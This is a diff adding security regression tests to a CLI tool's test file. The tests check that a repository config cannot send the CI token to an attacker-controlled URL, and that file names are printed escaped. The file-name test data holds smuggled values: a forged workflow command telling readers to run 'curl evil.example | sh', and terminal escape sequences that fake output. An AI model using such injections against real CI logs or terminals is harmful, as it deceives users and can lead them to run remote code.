@@ -5,6 +5,8 @@
  */
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -137,14 +139,12 @@ describe('catalog-lens check (the bin, against the local catalog)', () => {
     assert.equal(json.urns, 23);
   });
 
-  test('a .catalog-lens.json in the folder sets the catalog and the severities; its errors are named', async () => {
+  test('a .catalog-lens.json in the folder sets the severities; its errors are named', async () => {
     const folder = mkdtempSync(join(work, 'cfg-'));
     writeFileSync(join(folder, 'a.py'), readFileSync(join(work, 'clean.py')));
-    writeFileSync(
-      join(folder, '.catalog-lens.json'),
-      JSON.stringify({ url: catalog.url, 'catalogLens.diagnostics.unknown': 'error' }),
-    );
-    const r = await cli(['check'], folder, { CATALOG_LENS_TOKEN: TOKEN });
+    writeFileSync(join(folder, '.catalog-lens.json'), JSON.stringify({ 'catalogLens.diagnostics.unknown': 'error' }));
+    // The catalog with the token: from the environment (a file's "url" gets no token, see below).
+    const r = await cli(['check'], folder, { CATALOG_LENS_TOKEN: TOKEN, CATALOG_LENS_URL: catalog.url });
     assert.equal(r.code, 1);
     assert.match(r.stdout, /^a\.py:2:10: error: Dataset db\.ghost is not in the catalog \[unknown-urn\]$/m);
     writeFileSync(join(folder, '.catalog-lens.json'), '{"diagnostics": {"unknown": "loud"}}');
@@ -153,6 +153,98 @@ describe('catalog-lens check (the bin, against the local catalog)', () => {
     assert.match(
       bad.stderr,
       /\.catalog-lens\.json: "diagnostics" \.unknown must be one of error, warning, information, hint, off/,
+    );
+  });
+
+  test('the token is not sent to a "url" the repository’s .catalog-lens.json names: exit 2, and how to pass it', async () => {
+    // security-probe Part 2, finding 4: a pull request's config pointed CI's CATALOG_LENS_TOKEN at its own server.
+    const seen: Array<{ url: string; authorization: string | undefined }> = [];
+    const listener = createServer((req, res) => {
+      // Recorded before the answer: the CLI waits for the answer, so every request it sent is here when it exits.
+      seen.push({ url: req.url ?? '', authorization: req.headers.authorization });
+      req.resume();
+      res.writeHead(500, { 'Content-Type': 'application/json' }).end('{}');
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    const attacker = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+    try {
+      const folder = mkdtempSync(join(work, 'pr-'));
+      writeFileSync(join(folder, 'a.py'), readFileSync(join(work, 'clean.py')));
+      writeFileSync(
+        join(folder, '.catalog-lens.json'),
+        JSON.stringify({ url: attacker, diagnostics: { unknown: 'warning' } }),
+      );
+      const secret = 'ci-secret-TOKEN-4711';
+      const r = await cli(['check', '--format', 'sarif', '--output', join(folder, 'ci.sarif')], folder, {
+        CATALOG_LENS_TOKEN: secret,
+      });
+      assert.deepEqual(
+        seen.filter((x) => x.authorization?.includes(secret)),
+        [],
+        'the repository’s listener got the token',
+      );
+      assert.equal(r.code, 2, r.stdout + r.stderr);
+      assert.match(
+        r.stderr,
+        /\.catalog-lens\.json: "url" names the catalog, and a token is set \(CATALOG_LENS_TOKEN\)/,
+      );
+      assert.match(r.stderr, /pass --url URL or set CATALOG_LENS_URL/);
+      assert.doesNotMatch(r.stdout + r.stderr, new RegExp(secret));
+      // The same token with --token-file: refused the same way.
+      const tokenFile = join(work, 'token.txt');
+      writeFileSync(tokenFile, `${secret}\n`, { mode: 0o600 });
+      const viaFile = await cli(['check', '--token-file', tokenFile], folder);
+      assert.equal(viaFile.code, 2);
+      assert.match(viaFile.stderr, /a token is set \(--token-file\)/);
+      // Without a token the repository's URL is asked, with nothing secret.
+      const noToken = await cli(['check'], folder);
+      assert.ok(seen.length > 0, 'without a token the config file’s catalog is asked');
+      assert.ok(
+        seen.every((x) => x.authorization === undefined),
+        JSON.stringify(seen),
+      );
+      assert.equal(noToken.code, 3);
+      // A URL from a flag wins over the file's: the token goes there, and the repository's listener hears nothing more.
+      const before = seen.length;
+      const flagged = await cli(['check', '--url', catalog.url], folder, { CATALOG_LENS_TOKEN: TOKEN });
+      assert.equal(flagged.code, 0, flagged.stderr);
+      assert.equal(seen.length, before);
+    } finally {
+      await new Promise<void>((resolve) => listener.close(() => resolve()));
+    }
+  });
+
+  test('file names with a line break, ESC or a leading `::` are printed escaped: no forged workflow command, no terminal escape', async () => {
+    // security-probe Part 2, finding 13, with real files of those names.
+    const folder = mkdtempSync(join(work, 'names-'));
+    const names = [
+      'a\n::error file=SECURITY.md,line=1::Secret scanning found a leaked key - run curl evil.example | sh to rotate\n.py',
+      '\u001b]0;owned-title\u0007\u001b[1;31mFAKE: 0 errors\u001b[0m\u001b[2K.py',
+      '::error::forged.py',
+    ];
+    for (const name of names)
+      writeFileSync(join(folder, name), 'X = "urn:li:dataset:(urn:li:dataPlatform:hive,db.users)"\n');
+    const r = await cli(['check', '.'], folder);
+    assert.equal(r.code, 1, r.stderr);
+    const lines = r.stdout.split('\n').filter((l) => l !== '');
+    assert.equal(lines.length, names.length + 1, r.stdout);
+    for (const line of [...lines, ...r.stderr.split('\n')]) {
+      assert.doesNotMatch(line, /^\s*::/, JSON.stringify(line));
+      assert.doesNotMatch(line, /[\u0000-\u001f\u007f]/, JSON.stringify(line));
+    }
+    assert.ok(
+      lines.includes(
+        `./::error::forged.py:1:21: error: Malformed URN: expected 3 parts (platform, name, env), found 2 [malformed-urn]`,
+      ),
+      r.stdout,
+    );
+    assert.ok(
+      lines.some((l) => l.startsWith('a\\u000A::error file=SECURITY.md,line=1::Secret scanning')),
+      r.stdout,
+    );
+    assert.ok(
+      lines.some((l) => l.startsWith('\\u001B]0;owned-title\\u0007\\u001B[1;31mFAKE')),
+      r.stdout,
     );
   });
 
